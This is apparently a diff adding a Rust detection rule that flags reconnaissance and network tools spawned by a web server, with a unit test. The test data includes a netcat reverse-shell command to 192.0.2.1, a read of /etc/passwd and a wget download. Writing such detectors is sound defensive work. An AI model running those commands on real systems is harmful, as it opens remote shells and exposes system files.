@@ -1,0 +1,129 @@
+//! server-spawned-recon: discovery, download and network tools started by a server or below a
+//! server-spawned shell. Sources: Sigma proc_creation_lnx_webshell_detection (sub_processes),
+//! proc_creation_lnx_system_network_discovery, proc_creation_lnx_susp_network_utilities_execution;
+//! Falco suspicious_web_children and network_tool_binaries; Elastic protections
+//! persistence_suspicious_web_server_child_process.
+
+use regex::Regex;
+
+use super::super::{
+    DetectError,
+    exclusion::Exclusion,
+    family::Families,
+    matcher::{ExeMatcher, effective_name, regex},
+};
+use crate::{
+    config::{ReconRuleConfig, Severity},
+    lineage::Image,
+};
+
+pub struct ReconRule {
+    pub enabled: bool,
+    pub severity: Severity,
+    tools: ExeMatcher,
+    args: Vec<Option<Regex>>,
+    pub exclusions: Vec<Exclusion>,
+}
+
+const FIELD: &str = "rules.server_spawned_recon";
+
+impl ReconRule {
+    pub fn new(config: &ReconRuleConfig, families: &Families) -> Result<Self, DetectError> {
+        let tools: Vec<(usize, &str, String)> = config
+            .tools
+            .iter()
+            .enumerate()
+            .map(|(i, t)| {
+                (
+                    i,
+                    t.executable.as_str(),
+                    format!("{FIELD}.tools[{i}].executable"),
+                )
+            })
+            .collect();
+        let args = config
+            .tools
+            .iter()
+            .enumerate()
+            .map(|(i, t)| {
+                t.args_pattern
+                    .as_deref()
+                    .map(|p| regex(p, &format!("{FIELD}.tools[{i}].args_pattern")))
+                    .transpose()
+            })
+            .collect::<Result<_, _>>()?;
+        Ok(Self {
+            enabled: config.enabled,
+            severity: config.severity,
+            tools: ExeMatcher::new_owned(&tools)?,
+            args,
+            exclusions: Exclusion::compile_all(
+                &config.exclude,
+                &format!("{FIELD}.exclude"),
+                families,
+            )?,
+        })
+    }
+
+    pub fn is_tool(
+        &self,
+        image: &Image,
+        scratch: &mut Vec<usize>,
+        owners: &mut Vec<usize>,
+    ) -> bool {
+        owners.clear();
+        self.tools
+            .owners_into(&image.exe, effective_name(image), scratch, owners);
+        if owners.is_empty() {
+            return false;
+        }
+        // The arguments are joined only for a tool that needs its arguments checked.
+        let mut joined: Option<String> = None;
+        owners.iter().any(|&i| match self.args.get(i) {
+            Some(Some(re)) => {
+                let args = joined.get_or_insert_with(|| {
+                    image.argv.get(1..).map(|a| a.join(" ")).unwrap_or_default()
+                });
+                re.is_match(args)
+            }
+            _ => true,
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::DetectConfig;
+
+    fn image(exe: &str, argv: &[&str]) -> Image {
+        Image {
+            exe: exe.into(),
+            argv: argv.iter().map(|s| (*s).to_owned()).collect(),
+            argv_truncated: false,
+        }
+    }
+
+    #[test]
+    fn tools_and_argument_conditions() {
+        let families = Families::new(&DetectConfig::default()).expect("families");
+        let rule = ReconRule::new(&ReconRuleConfig::default(), &families).expect("rule");
+        let (mut a, mut b) = (Vec::new(), Vec::new());
+        let mut is = |exe: &str, argv: &[&str]| rule.is_tool(&image(exe, argv), &mut a, &mut b);
+        assert!(is("/usr/bin/id", &["id"]));
+        assert!(is(
+            "/usr/bin/nc.openbsd",
+            &["nc", "-e", "/bin/sh", "192.0.2.1", "4444"]
+        ));
+        assert!(is("/usr/bin/cat", &["cat", "/etc/passwd"]));
+        assert!(!is("/usr/bin/cat", &["cat", "/var/www/html/index.html"]));
+        assert!(is("/usr/bin/base64", &["base64", "-d"]));
+        assert!(!is("/usr/bin/base64", &["base64", "/tmp/x"]));
+        assert!(is("/bin/busybox", &["wget", "http://192.0.2.1/x"]));
+        assert!(!is(
+            "/usr/bin/rotatelogs",
+            &["rotatelogs", "/var/log/a", "86400"]
+        ));
+        assert!(!is("/usr/bin/ffmpeg", &["ffmpeg", "-i", "a.mp4"]));
+    }
+}
